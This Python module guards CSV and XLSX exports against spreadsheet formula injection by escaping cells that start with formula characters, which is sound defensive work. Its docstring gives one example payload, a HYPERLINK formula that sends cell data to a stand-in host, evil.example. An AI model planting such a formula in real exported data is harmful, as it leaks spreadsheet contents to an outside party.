"""Spreadsheet-safe CSV and XLSX output (issue 11): OWASP's rule against formula injection.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width forms,
which some spreadsheets read alike) is a formula to Excel and LibreOffice: a department called
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would become a live link that sends the sheet's data away.

- CSV: such a text gets a leading apostrophe, ``'=HYPERLINK(…)``, the neutralisation OWASP recommends (the
  spreadsheet shows the text, the apostrophe tells any reader that it was escaped).
- XLSX: such a text is written as a text cell with Excel's own "quote prefix" (the value read back is the
  unchanged name; Excel will not turn it into a formula even when the cell is edited).

Numbers stay numbers: numeric values pass untouched, and so do texts that are a formatted number
(``-3,2``, ``+1.5``, ``12,5 %``), as the CSV writers put signed changes.
"""

from __future__ import annotations

import csv
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+\-\u2212]?\d[\d\u00a0 ]*(?:[.,]\d+)?(?:[\u00a0 ]?%)?")


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)


def safe_text(value: Any) -> Any:
    """A CSV cell: a text that a spreadsheet would read as a formula gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_text`."""

    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def make_workbook_safe(workbook) -> None:
    """Before saving an openpyxl workbook: every text cell that a spreadsheet would take as a formula (and
    any cell openpyxl itself made a formula because its text starts with ``=``) becomes a plain text cell
    with Excel's quote prefix. Numbers are not touched."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (cell.data_type == "f" or is_formula_like(value)):
                    cell.data_type = "s"
                    cell.quotePrefix = True
